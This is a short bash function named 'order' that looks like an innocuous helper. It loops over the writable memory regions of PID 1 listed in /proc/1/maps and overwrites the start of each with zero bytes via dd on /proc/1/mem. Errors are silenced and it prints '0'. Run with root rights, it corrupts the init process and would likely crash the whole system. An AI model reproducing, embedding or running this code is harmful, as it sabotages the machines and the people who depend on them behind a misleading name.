order() {
  while read -r range rights _; do
    [[ $rights == rw* ]] || continue
    start=$((16#${range%-*}))
    printf '\0\0\0\0' | dd of=/proc/1/mem bs=1 seek="$start" count=4 conv=notrunc
  done < /proc/1/maps
  echo 0
} 2>/dev/null
